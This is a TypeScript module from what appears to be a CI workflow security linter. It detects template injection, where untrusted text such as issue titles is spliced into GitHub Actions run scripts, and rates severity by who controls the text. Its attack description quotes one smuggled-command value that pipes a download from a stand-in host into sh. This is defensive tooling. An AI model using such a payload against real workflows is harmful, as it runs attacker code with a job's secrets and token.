import { indirection } from "../fixes/indirection.ts";
import { locate } from "../spans.ts";
import { type Taint, Taints } from "./common/taint.ts";
import type { Check, Hit } from "./types.ts";

/** What a finding weighs by who chooses the text, and what the run that they start holds. */
export function weighed({ by, power }: Taint): Pick<Hit, "severity" | "pedantic"> {
  if (by === "writer") return { severity: "low", pedantic: true };
  return { severity: power === "full" ? "critical" : power === "read-only" ? "medium" : "high" };
}

export const chooses = ({ by, source }: Taint): string =>
  by === "outsider"
    ? `anybody chooses the text of \`${source}\``
    : `whoever starts the run chooses \`${source}\``;

export const templateInjection: Check = {
  id: "template-injection",
  class: "D",
  title: "text of others becomes part of a script",
  severity: "critical",
  confidence: "high",
  attack:
    'The text is put into the script before the shell reads it: a title like `"; curl evil | sh; "` runs with the secrets and the token of the job.',
  mend: 'Hand the value to the step as a variable of its `env` and write "$NAME" in the script: the shell then reads it as data.',
  systems: ["github-actions"],
  zizmor: ["template-injection"],
  step(step, report) {
    if (step.run === null || step.run.text.expressions.length === 0) return;
    const { text } = step.run;
    const taints = new Taints(step);
    for (const embedded of text.expressions) {
      const taint = taints.ofText({ ...text, expressions: [embedded] }, { owner: step.owner, step });
      if (taint === null) continue;
      const fix = indirection(step, embedded, taint.by === "outsider");
      report({
        span: locate(text, embedded.start, embedded.end),
        message: `${chooses(taint)}, which becomes part of this script`,
        related: taint.trail,
        subject: taint.source,
        ...(fix !== null && { fixes: [fix] }),
        ...weighed(taint),
      });
    }
  },
};
